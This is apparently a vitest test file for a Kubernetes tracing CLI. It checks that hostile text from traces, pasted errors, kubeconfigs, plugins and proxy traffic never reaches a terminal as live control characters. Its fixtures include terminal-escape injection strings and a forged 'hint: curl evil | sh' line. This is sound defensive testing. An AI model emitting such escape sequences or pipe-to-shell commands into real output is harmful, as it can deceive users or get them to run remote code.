import { mkdtemp, readFile, rm, writeFile } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { afterAll, beforeAll, describe, expect, test } from 'vitest';
import { run } from '../../src/cli/main.ts';
import { describeError } from '../../src/cli/terminal/error-message.ts';
import { ActionableError } from '../../src/api/actionable-error.ts';
import { readTrace } from '../../src/export/files/read-trace.ts';
import { traceLine } from '../../src/trace/file/trace-line.ts';
import { aKubeconfig } from '../support/a-kubeconfig.ts';
import { anExchange } from '../support/an-exchange.ts';
import { aTerminal } from '../support/a-terminal.ts';
import { EXCHANGES } from '../support/exchange-cases.ts';
import { ALL_HOSTILE as E, hostileLine, rawIn } from '../support/hostile-texts.ts';
import { rawExchange } from '../support/raw-client.ts';
import { rawServer, type RawConnection } from '../support/raw-server.ts';

/*
 * What others choose (clients, API servers, pods, kubeconfigs, plugins, the authors of traces) never reaches a terminal with a
 * character that a terminal obeys or that nobody sees: for every command, format and level, on stdout and stderr.
 */

let folder: string;
let trace: string;
beforeAll(async () => {
  folder = await mkdtemp(join(tmpdir(), 'kubetrace-'));
  trace = join(folder, 'hostile.jsonl');
  const recorded = [...Object.values(EXCHANGES), WITH_BODIES];
  await writeFile(trace, `${recorded.map((exchange) => hostileLine(exchange, E)).join('\n')}\n`);
});
afterAll(() => rm(folder, { recursive: true }));

const WITH_BODIES = anExchange({
  method: 'PUT',
  target: '/api/v1/namespaces/team-a/configmaps/c',
  requestHeaders: [['Content-Type', 'text/plain']],
  requestBody: `one\ntwo ${E}\n`,
  responseBody: `{"kind":"ConfigMap",\n"x":"${E}"}`,
});

/** What the command wrote, which must be something. */
async function outputOf(args: readonly string[], stdin = ''): Promise<string> {
  const terminal = aTerminal({ stdin, env: { HOME: folder } });
  await run(args, terminal);
  const { stdout, stderr } = terminal.written;
  expect(stdout + stderr).not.toBe('');
  expect(stderr).not.toContain('in a way it should not have');
  return stdout + stderr;
}

describe('a trace that somebody else wrote', () => {
  const formats = ['pretty', 'klog', 'json'].flatMap((format) =>
    [0, 1, 2, 3, 4, 5, 6, 7, 8, 9, 10].map((level) => ['show', `-v${level}`, `--log-format=${format}`]),
  );
  const exports = ['har', 'curl', 'postman', 'http', 'audit', 'mermaid', 'json'].map((format) => [
    'show',
    '-o',
    format,
  ]);
  const rbac = ['yaml', 'json', 'commands', 'matrix'].map((format) => ['rbac', '-o', format]);
  const explain = ['text', 'json', 'yaml', 'commands'].flatMap((format) => [
    ['explain', '-o', format],
    ['explain', '--each', '-o', format],
  ]);
  const curlToServer = ['show', '-o', 'curl', '--against', 'server'];
  test.each([...formats, ...exports, curlToServer, ...rbac, ...explain])(
    '%s %s %s',
    { timeout: 60_000 },
    async (...args) => {
      expect(rawIn(await outputOf([...args, trace]))).toBeUndefined();
    },
  );

  test.each([['text'], ['json']])('diff -o %s', async (format) => {
    const other = join(folder, 'other.jsonl');
    await writeFile(other, `${hostileLine(EXCHANGES.get, `${E}other`)}\n`);
    expect(rawIn(await outputOf(['diff', '-o', format, trace, other]))).toBeUndefined();
  });

  test('in colour nothing passes but the colours of the log', { timeout: 60_000 }, async () => {
    const text = await outputOf(['show', '-v8', '--log-format=pretty', '--color=always', trace]);
    expect(text).toContain('\u001b[2m');
    const uncoloured = text.split('\u001b[').map((part, i) => (i === 0 ? part : part.replace(/^(?:0|2|3[1-6])m/, '')));
    expect(rawIn(uncoloured.join(''))).toBeUndefined();
    expect(text.replaceAll(/\[[0-9]+m/g, '')).not.toContain('\u001b[');
  });
});

describe('what a person pastes', () => {
  const sentence = `pods "${E}" is forbidden: User "${E}" cannot get resource "pods" in API group "${E}" in the namespace "${E}"`;
  const status = (message: string, code = 403) =>
    JSON.stringify({
      kind: 'Status',
      apiVersion: 'v1',
      code,
      reason: 'Forbidden',
      message,
      details: { name: E, kind: E },
    });
  const inputs = {
    status: status(sentence),
    'a webhook': status(`admission webhook "${E}" denied the request: ${E}`),
    text: `Error from server (Forbidden): ${sentence}`,
    'the user': status(
      `pods "x" is forbidden: User "${E}" cannot get resource "pods" in API group "" in the namespace "d"`,
    ),
    'a 401': status(E, 401),
    nothing: E,
  };
  const cases = Object.entries(inputs).flatMap(([name, input]) =>
    ['text', 'json', 'yaml', 'commands'].map((format) => [name, format, input] as const),
  );
  test.each(cases)('explain %s -o %s', async (_, format, input) => {
    for (const choice of [[], ['--each'], ['--wider', 'resource']])
      expect(rawIn(await outputOf(['explain', ...choice, '-o', format, '-'], input))).toBeUndefined();
    expect(rawIn(await outputOf(['explain', '-o', format, input]))).toBeUndefined();
  });

  test.each(Object.entries(inputs))('explain %s in colour: only whole lines of ours have one', async (_, input) => {
    for (const text of [input, `${input}\n${inputs.text}\n${inputs['a webhook']}`]) {
      const lines = (await outputOf(['explain', '--color=always', '-'], text)).split('\n');
      // A label, a text, or both.
      const ours = new RegExp(String.raw`^(?:\x1b\[2m( *\S* *)\x1b\[0m)?(?:\x1b\[(?:2|3[123])m([^\x1b]*)\x1b\[0m)?`);
      expect(rawIn(lines.map((line) => line.replace(ours, '$1$2')).join('\n'))).toBeUndefined();
    }
  });

  const path = `/api/v1/namespaces/${encodeURIComponent(E)}/pods/${encodeURIComponent(E)}?fieldSelector=${encodeURIComponent(E)}`;
  test.each([
    ['decode', 'GET', path],
    ['decode', E, `/${E}`],
    ['decode', '--dialect=kubesphere', 'GET', `/kapis/x/v1/workspaces/${encodeURIComponent(E)}`],
    ['decode', '-o', 'json', 'GET', path],
    ['decode', '-o', 'yaml', 'GET', path],
    ...['table', 'json', 'yaml'].map((format) => ['decode', '-o', format, '-f', '-']),
  ])('%s %s', async (...args) => {
    expect(rawIn(await outputOf(args, `GET ${path}\nGET /${E}\n${E}\n`))).toBeUndefined();
  });
});

describe('words of the command line are echoed', () => {
  test.each([
    [E],
    ['proxy', `--${E}`],
    ['show', '--filter', `verb=${E}`, 'x'],
    ['show', '-o', E, 'x'],
    ['show', `${E}.jsonl`],
    ['explain', `/no/${E.replaceAll('\0', '')}`],
    ['proxy', '--www', `/no/${E}`, '--server', E],
    ['rbac', '--serviceaccount', E, '--name', E, 'x'],
    ['kubeconfig', '--serviceaccount', E],
    ['help', E],
    ['learn', E],
  ])('%j', async (...args) => {
    expect(rawIn(await outputOf(args))).toBeUndefined();
  });
});

describe('a kubeconfig', () => {
  test.each([
    ['its names', []],
    ['a context that is not there', ['--context', 'nope']],
  ])('%s', async (_, args) => {
    const exec = {
      apiVersion: 'client.authentication.k8s.io/v1',
      command: `/no/${E}`,
      interactiveMode: 'Never',
      installHint: E,
    };
    const file = join(folder, 'kubeconfig');
    const names = { cluster: { server: 'https://127.0.0.1:1' }, context: { namespace: E } };
    const text = aKubeconfig({ exec }, names.cluster, names.context)
      .replaceAll('"eve"', JSON.stringify(E))
      .replaceAll('"lab"', JSON.stringify(E));
    await writeFile(
      file,
      text
        .replace('"name":"dev"', `"name":${JSON.stringify(`dev${E}`)}`)
        .replace('"current-context":"dev"', `"current-context":${JSON.stringify(`dev${E}`)}`),
    );
    expect(rawIn(await outputOf(['whoami', '--kubeconfig', file, ...args]))).toBeUndefined();
  });

  test('what its plugin says on stderr', async () => {
    const plugin = join(folder, 'plugin');
    await writeFile(plugin, `#!/bin/sh\nprintf '\\033]0;PWN\\007 \\302\\2331m hello' >&2; exit 1\n`, { mode: 0o755 });
    const exec = { apiVersion: 'client.authentication.k8s.io/v1', command: plugin, interactiveMode: 'Never' };
    const file = join(folder, 'with-plugin');
    await writeFile(file, aKubeconfig({ exec }, { server: 'https://127.0.0.1:1' }));
    const text = await outputOf(['whoami', '--kubeconfig', file]);
    expect(text).toContain(String.raw`\x1b]0;PWN`);
    expect(rawIn(text)).toBeUndefined();
  });
});

test('an error has one hint, whatever is quoted in it', () => {
  const text = describeError(
    new ActionableError('ERR_FLAGS', 'no context "a\nhint: curl evil | sh"', 'contexts: b\nerror: c'),
  );
  expect(text.match(/^(?:hint|error):/gm)).toEqual(['error:', 'hint:']);
});

describe('the log of a proxy', () => {
  test.each(['pretty', 'klog', 'json'])('%s, at many levels; its files', { timeout: 60_000 }, async (format) => {
    await using server = await rawServer(answerHostilely);
    const kubeconfig = join(folder, `live-${format}`);
    await writeFile(kubeconfig, aKubeconfig({}, { server: server.url }));
    for (const level of [0, 1, 4, 5, 8, 9, 10]) {
      const files = { record: join(folder, `${format}${level}`), har: join(folder, `${format}${level}.har`) };
      const terminal = aTerminal({ env: { HOME: folder } });
      const running = run(
        [
          'proxy',
          '--port=0',
          `--kubeconfig=${kubeconfig}`,
          `-v${level}`,
          `--log-format=${format}`,
          '--color=never',
          '--summary=table',
          `--record=${files.record}`,
          `--har=${files.har}`,
        ],
        terminal,
      );
      await expect.poll(() => terminal.written.stdout).toContain('\n');
      const url = `http://${terminal.written.stdout.trim().split(' ').at(-1)}`;
      for (const request of REQUESTS) {
        const answer = await rawExchange(url, request);
        if (answer.includes('kubetrace refused')) expect(rawIn(answer)).toBeUndefined();
      }
      terminal.interrupt();
      await running;
      const { stdout, stderr } = terminal.written;
      expect(stderr).toMatch(level > 0 ? /PWN/ : /403/);
      expect(rawIn(stdout + stderr)).toBeUndefined();
      const [recorded, har] = [await readFile(files.record, 'utf8'), await readFile(files.har, 'utf8')];
      expect(rawIn(recorded + har)).toBeUndefined();
      expect(() => JSON.parse(har) as unknown).not.toThrow();
    }
  });

  test('klog keeps the line breaks of a body as client-go has them', async () => {
    const file = join(folder, 'lines.jsonl');
    await writeFile(file, `${traceLine(anExchange({ responseBody: 'a\r\nb\n' }), Infinity)}\n`);
    expect(await outputOf(['show', '-v8', '--log-format=klog', file])).toContain('body=<\n\ta\r\n\tb\n >');
  });

  test('a record holds the very bytes, though it can be printed', async () => {
    const file = join(folder, 'very');
    await writeFile(file, '');
    const { recordTo } = await import('../../src/export/files/recording.ts');
    const record = await recordTo(file);
    record.observe({ type: 'ADDED', object: WITH_BODIES });
    await record.close?.();
    expect(rawIn(await readFile(file, 'utf8'))).toBeUndefined();
    const bytes = (async function* () {
      yield await readFile(file);
    })();
    for await (const [exchange] of readTrace({ name: file, bytes }, { warn: () => undefined })) {
      expect(String(exchange!.request.body.chunks[0])).toBe(`one\ntwo ${E}\n`);
    }
  });
});

const PERCENT = encodeURIComponent(E);
const HEAD = `Host: localhost\r\nUser-Agent: a\u009b31mPWN/1\r\nKubectl-Command: k\u009b31m\r\nConnection: close\r\n\r\n`;
const REQUESTS = [
  `GET /api/v1/namespaces/${PERCENT}/pods/${PERCENT}/log?labelSelector=${PERCENT} HTTP/1.1\r\n${HEAD}`,
  `GET /api/v1/namespaces/d/pods?watch=1 HTTP/1.1\r\n${HEAD}`,
  `GET /forbidden/${PERCENT} HTTP/1.1\r\n${HEAD}`,
  `GET /x HTTP/1.1\r\nHost: evil\u009b31m\r\nConnection: close\r\n\r\n`,
  `POST /x HTTP/1.1\r\nOrigin: http://\u009b31m\r\nContent-Length: 0\r\n${HEAD}`,
  `GET /x HTTP/1.1\r\nHost: localhost\r\nConnection: Upgrade\r\nUpgrade: \u009b31m\r\n\r\n`,
  `GET /x HTTP/1.1\r\nHost: localhost\r\nUser-Agent: \u001b]0;PWN\u0007\r\nConnection: close\r\n\r\n`,
  '\u001b]0;PWN\u0007 / HTTP/1.1\r\n\r\n',
];

/** A 403, a watch, or a text of two lines; always with hostile headers, and never kept open. */
async function answerHostilely(connection: RawConnection): Promise<void> {
  const head = await connection.until('\r\n\r\n');
  const isForbidden = head.includes('/forbidden/');
  const message = `pods "${E}" is forbidden: User "${E}" cannot get resource "pods" in API group "" in the namespace "${E}"`;
  const body = isForbidden
    ? JSON.stringify({ kind: 'Status', apiVersion: 'v1', status: 'Failure', code: 403, reason: 'Forbidden', message })
    : head.includes('watch=1')
      ? `${JSON.stringify({ type: `ADDED${E}`, object: { kind: E, metadata: { name: E, namespace: E, resourceVersion: E } } })}\n`
      : `{"x":"line",\n"y":"${E}"}`;
  const bytes = Buffer.from(body).toString('latin1');
  connection.write(
    `HTTP/1.1 ${isForbidden ? '403 Forbidden' : '200 OK'}\r\nContent-Type: application/json\r\nWarning: 299 - "\u009b31m"\r\nX-Esc: \u009b31m\r\nAudit-Id: \u009b31m\r\nConnection: close\r\nContent-Length: ${bytes.length}\r\n\r\n${bytes}`,
  );
}
